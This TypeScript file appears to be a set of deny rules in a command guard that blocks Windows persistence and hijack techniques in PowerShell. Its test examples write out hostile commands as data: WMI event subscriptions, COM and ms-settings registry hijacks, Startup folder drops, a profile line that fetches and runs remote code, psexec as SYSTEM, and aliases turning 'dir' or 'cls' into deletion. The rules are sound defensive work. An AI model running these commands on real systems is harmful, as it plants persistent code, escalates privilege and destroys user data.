/**
 * PowerShell pack: ways to make code run again later, or instead of what the user meant (issue 12):
 * WMI event subscriptions, registry keys Windows consults before running a program (COM classes,
 * `shell\open\command` of auto-elevating settings pages), the Startup folders, PowerShell profiles,
 * a service's program, the machine-wide PATH, and commands redefined as destructive ones (aliases,
 * functions, doskey macros). Each rule first checks the command's name, so other commands cost nothing.
 */
import {canonicalName} from '../../powershell-names.js'
import {powershellRule, type PowerShellRule} from '../../rules.js'
import {operands, paramOf, STARTUP_DIR, words, writeTargets} from './writes.js'

const WMI_CREATORS = /^(?:set-wmiinstance|swmi|new-ciminstance|ncim|set-ciminstance)$/
const WMI_PERSIST = /root[\\/]+subscription|__EventFilter|EventConsumer|__FilterToConsumerBinding/i

export const wmiSubscription = powershellRule({
  id: 'powershell.wmi-subscription',
  decision: 'deny',
  reason: 'registers a WMI event subscription (a filter and a consumer): code that runs on an event, for ever',
  examples: {
    match: [
      String.raw`Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='a'}`,
      "New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='b'}",
      String.raw`wmic /NAMESPACE:"\\root\subscription" PATH __FilterToConsumerBinding CREATE Filter="x"`,
      String.raw`mofcomp.exe C:\ProgramData\x.mof`,
    ],
    not_match: [
      String.raw`Get-WmiObject -Namespace root\subscription -Class __EventFilter`,
      String.raw`wmic /namespace:\\root\subscription PATH __EventConsumer get Name`,
      'mofcomp -check schema.mof',
      'Get-CimInstance Win32_OperatingSystem',
    ],
  },
  check(cmd) {
    if (WMI_CREATORS.test(cmd.name) && WMI_PERSIST.test(cmd.text))
      return String.raw`${cmd.written} in root\subscription: registers a permanent WMI event subscription`
    if (cmd.name === 'wmic' && WMI_PERSIST.test(cmd.text) && words(cmd).includes('create'))
      return String.raw`wmic … CREATE in root\subscription: registers a permanent WMI event subscription`
    if (cmd.name === 'mofcomp' && !words(cmd).some((w) => /^[-/](?:check|\?)/.test(w)) && cmd.args.length > 0)
      return 'mofcomp: compiles WMI classes and instances into the repository (event subscriptions among them)'
    if (/\.put\(\)|\.createinstance\(\)/i.test(cmd.text) && WMI_PERSIST.test(cmd.text))
      return 'creates a WMI event subscription instance'
    return null
  },
})

/** Keys Windows reads before it runs something: what is written there runs in its place. */
const HIJACK_KEY = new RegExp(
  [
    String.raw`\\Classes\\(?:Wow6432Node\\)?CLSID\\[^\\]+\\(?:InprocServer32|LocalServer32|TreatAs|ScriptletURL)`,
    String.raw`\\Classes\\[^\\]+\\shell\\(?:open|runas)\\command`,
    String.raw`\\Image File Execution Options\\|\\SilentProcessExit\\|\\Winlogon(?:\\|$)|AppInit_DLLs`,
    String.raw`\\CurrentVersion\\(?:Run|RunOnce|RunOnceEx|RunServices)(?:\\|$)|\\Policies\\Explorer\\Run`,
    String.raw`\\Command Processor(?:\\|$)|\\Environment\\?$`,
  ].join('|'),
  'i',
)
const KEY_WRITERS = /^(?:new-item|set-item|new-itemproperty|set-itemproperty|copy-item|move-item|rename-item)$/

export const hijackKeys = powershellRule({
  id: 'powershell.hijack-keys',
  decision: 'deny',
  reason: 'writes a registry key Windows reads before running a program (COM class, shell open command, Run keys)',
  examples: {
    match: [
      String.raw`New-Item -Path "HKCU:\Software\Classes\CLSID\{0A29FF9E-7F9C-4437}\InprocServer32" -Force`,
      String.raw`ni "HKCU:\Software\Classes\ms-settings\Shell\Open\command" -Value 'cmd /c calc' -Force`,
      String.raw`New-Item Registry::HKEY_CURRENT_USER\Software\Classes\Folder\shell\open\command`,
    ],
    not_match: [
      String.raw`New-Item -Path HKCU:\Software\Contoso\Settings -Force`,
      String.raw`Get-Item "HKCU:\Software\Classes\CLSID\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\InprocServer32"`,
      String.raw`New-Item -ItemType Directory .\Classes\CLSID`,
    ],
  },
  check(cmd) {
    if (!KEY_WRITERS.test(cmd.name)) return null
    const key = operands(cmd, ['value', 'itemtype', 'type', 'name', 'propertytype']).find(
      (p) => /^(?:HK\w+:|Registry::)/i.test(p) && HIJACK_KEY.test(p),
    )
    return key === undefined ? null : `${cmd.written} ${key}: makes Windows run something else in a program's place`
  },
})

const SHORTCUT = /\.CreateShortcut\(/i

export const startupFolder = powershellRule({
  id: 'powershell.startup-folder',
  decision: 'deny',
  reason: 'puts a program, script or shortcut into a Startup folder: it runs at every log-on',
  examples: {
    match: [
      String.raw`copy .\tool.exe "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\"`,
      String.raw`Copy-Item x.bat -Destination "$env:ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp"`,
      String.raw`echo start x.exe > "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.cmd"`,
      String.raw`$l = $sh.CreateShortcut("$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk")`,
    ],
    not_match: [
      String.raw`Get-ChildItem "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup"`,
      'explorer shell:startup',
      String.raw`copy .\startup.ps1 .\backup\startup.ps1`,
    ],
  },
  check(cmd) {
    if (!/startup/i.test(cmd.text)) return null
    if (SHORTCUT.test(cmd.text) && STARTUP_DIR.test(cmd.text)) return 'creates a shortcut in the Startup folder'
    const target = writeTargets(cmd).find((t) => STARTUP_DIR.test(t))
    return target === undefined ? null : `${cmd.written} ${target}: runs at every log-on`
  },
})

const PROFILE = /^\$profile(?:\.\w+)?$|^\$pshome[\\/]|[\\/](?:Windows)?PowerShell[\\/](?:[\w.]+_)?profile\.ps1$/i
const PROFILE_WRITERS = /^(?:set-content|add-content|out-file|tee-object|copy-item|move-item|copy|move|new-item)$/

export const profileWrite = powershellRule({
  id: 'powershell.profile-write',
  decision: 'deny',
  reason: 'writes into a PowerShell profile: what it adds runs in every PowerShell session that starts',
  examples: {
    match: [
      "Add-Content $PROFILE 'Import-Module x'",
      "'iex (irm https://x.example/p)' | Out-File -Append -FilePath $PROFILE.CurrentUserAllHosts",
      String.raw`echo Set-Alias ls rm >> %USERPROFILE%\Documents\WindowsPowerShell\profile.ps1`,
      "Set-Content -Path $PROFILE.AllUsersAllHosts -Value 'x'",
    ],
    not_match: ['notepad $PROFILE', 'Get-Content $PROFILE', 'Test-Path $PROFILE', '. $PROFILE'],
  },
  check(cmd) {
    if (!/profile/i.test(cmd.text)) return null
    if (cmd.name === 'new-item' && paramOf(cmd, 'value') === undefined) return null
    if (!PROFILE_WRITERS.test(cmd.name) && !/^\[(?:system\.)?io\.file\]::(?:write|append)/.test(cmd.name)) {
      const redirected = writeTargets(cmd).find((t) => PROFILE.test(t))
      return redirected === undefined ? null : `${cmd.written} > ${redirected}: runs in every PowerShell session`
    }

    const target = cmd.name.startsWith('[')
      ? /\$profile\b/i.exec(cmd.text)?.[0]
      : writeTargets(cmd).find((t) => PROFILE.test(t))
    return target === undefined ? null : `${cmd.written} ${target}: runs in every PowerShell session`
  },
})

export const serviceProgram = powershellRule({
  id: 'powershell.service-program',
  decision: 'deny',
  reason: 'changes the program a Windows service runs, or runs a command as SYSTEM or on another machine',
  examples: {
    match: [
      String.raw`sc.exe config Spooler binPath= "C:\x.exe"`,
      'sc config wuauserv start= disabled',
      String.raw`Set-Service -Name Fax -BinaryPathName C:\x.exe`,
      'psexec -i -s powershell.exe',
      String.raw`PsExec64.exe \\fileserver -u admin cmd`,
    ],
    not_match: ['sc query wuauserv', 'sc.exe qc Spooler', 'Get-Service Spooler', 'psexec -? '],
  },
  check(cmd) {
    const a = words(cmd)
    if (/^sc(?:\.exe)?$/i.test(cmd.written) && /^(?:config|create|delete|stop|failure|sdset|pause)$/.test(a[0] ?? ''))
      return `sc ${a[0]}: changes a service`
    if (/binarypath/.test(cmd.name) || (cmd.name === 'set-service' && paramOf(cmd, 'binarypathname', 2) !== undefined))
      return `${cmd.written}: changes the program a service runs`
    if (/^(?:psexec(?:64)?|paexec)$/.test(cmd.name)) {
      if (a.some((w) => /^[-/][a-z]*s[a-z]*$/.test(w) && w !== '-accepteula' && w.length <= 4))
        return `${cmd.written} -s: runs a command as SYSTEM`
      const host = a.find((w) => w.startsWith('\\\\') && !/^\\\\(?:localhost|127\.0\.0\.1|\.)$/.test(w))
      if (host !== undefined) return `${cmd.written} ${host}: runs a command on another machine`
    }

    return null
  },
})

const PATH_VARS = /^['"]?(?:path|pathext|psmodulepath|comspec|windir|systemroot)['"]?$/i

export const machinePath = powershellRule({
  id: 'powershell.machine-path',
  decision: 'deny',
  reason: 'rewrites the machine-wide PATH (or another variable every program reads): programs resolve elsewhere',
  examples: {
    match: [
      String.raw`[Environment]::SetEnvironmentVariable("Path", "C:\x;$env:Path", "Machine")`,
      String.raw`[System.Environment]::SetEnvironmentVariable('PATH', $p, [EnvironmentVariableTarget]::Machine)`,
      String.raw`setx /M PATH "C:\tools;%PATH%"`,
    ],
    not_match: [
      "[Environment]::GetEnvironmentVariable('Path', 'Machine')",
      "[Environment]::SetEnvironmentVariable('MY_FLAG', '1', 'User')",
      String.raw`setx MY_HOME C:\tools`,
      String.raw`$env:Path += ';C:\tools\bin'`,
    ],
  },
  check(cmd) {
    if (cmd.name === '[environment]::setenvironmentvariable') {
      const inner = cmd.args[0]?.text ?? ''
      const first = /^\(\s*([^,]+),/.exec(inner)?.[1]?.trim() ?? ''
      if (PATH_VARS.test(first) && /machine/i.test(inner)) return `SetEnvironmentVariable ${first} Machine`
      return null
    }

    if (cmd.name === 'setx') {
      const a = words(cmd)
      const name = a.find((w) => !w.startsWith('/'))
      if (name !== undefined && PATH_VARS.test(name) && a.includes('/m')) return `setx ${name} /M`
    }

    return null
  },
})

/** Names of everyday commands: an alias, function or macro by one of these runs instead of it. */
const EVERYDAY = new Set([
  'dir',
  'ls',
  'cd',
  'cat',
  'type',
  'echo',
  'cls',
  'clear',
  'copy',
  'move',
  'cp',
  'mv',
  'pwd',
  'gci',
  'gc',
  'gi',
  'where',
  'help',
  'man',
  'md',
  'mkdir',
  'git',
  'npm',
  'node',
  'python',
  'code',
  'prompt',
  'tabexpansion2',
  'psconsolehostreadline',
  'more',
  'sl',
  'gl',
  'select',
  'sort',
  'measure',
  'ni',
  'tree',
  'find',
  'findstr',
])
const DESTROYING = new RegExp(
  '^(?:remove-item|format-volume|clear-disk|initialize-disk|remove-partition|stop-computer|restart-computer|' +
    'clear-content|clear-recyclebin|format|diskpart|cipher)$',
)

const shadows = (name: string): boolean =>
  EVERYDAY.has(name.toLowerCase()) ||
  canonicalName(name, [], 'powershell') !== name.toLowerCase() ||
  /^(?:get|set|new|write|out|select|where|foreach|invoke|test|start|clear)-\w+$/i.test(name)

function destroys(code: string): boolean {
  const head = /^\s*[({]?\s*([\w.-]+)/.exec(code)?.[1] ?? ''
  return (
    DESTROYING.test(canonicalName(head, [], 'powershell')) ||
    /\b(?:Remove-Item|Format-Volume|Clear-Disk|rd \/s|rmdir \/s|del \/[sfq])/i.test(code)
  )
}

export const shadowedCommand = powershellRule({
  id: 'powershell.shadowed-command',
  decision: 'deny',
  reason: 'redefines a command (alias, function, doskey macro) as a destructive one: the next use of it destroys',
  examples: {
    match: [
      'Set-Alias -Name dir -Value Remove-Item -Force -Option AllScope',
      'nal gci Format-Volume',
      'function Get-ChildItem { Remove-Item @args -Recurse -Force }',
      String.raw`doskey cls=rd /s /q %USERPROFILE% $*`,
    ],
    not_match: [
      'Set-Alias -Name ll -Value Get-ChildItem',
      'Get-Alias dir',
      String.raw`function Remove-BuildOutput { Remove-Item .\dist -Recurse }`,
      'doskey ll=dir /w $*',
      'doskey /history',
    ],
  },
  check(cmd) {
    if (/^(?:set-alias|new-alias|sal|nal)$/.test(cmd.name)) {
      const [name, value] = [paramOf(cmd, 'name'), paramOf(cmd, 'value')]
      const ops = operands(cmd, ['name', 'value', 'option', 'scope', 'description'])
      const target = value ?? ops[name === undefined ? 1 : 0] ?? ''
      if (DESTROYING.test(canonicalName(target, [], 'powershell')))
        return `${cmd.written} ${name ?? ops[0] ?? ''} → ${target}: a command name now destroys`
      return null
    }

    if (cmd.name === 'function' || cmd.name === 'filter') {
      const name = (cmd.args[0]?.text ?? '').replace(/^(?:global|script):/i, '')
      const body = cmd.args.find((a) => a.text.startsWith('{'))?.text ?? ''
      return shadows(name) && destroys(body.slice(1)) ? `function ${name}: replaced by a destructive one` : null
    }

    if (cmd.name === 'doskey') {
      const macro = cmd.text.match(/\s([\w.-]+)=(.+)$/)
      if (macro !== null && destroys(macro[2] as string)) return `doskey ${macro[1]}=…: a command name now destroys`
    }

    return null
  },
})

export const persistenceRules: readonly PowerShellRule[] = [
  wmiSubscription,
  hijackKeys,
  startupFolder,
  profileWrite,
  serviceProgram,
  machinePath,
  shadowedCommand,
]
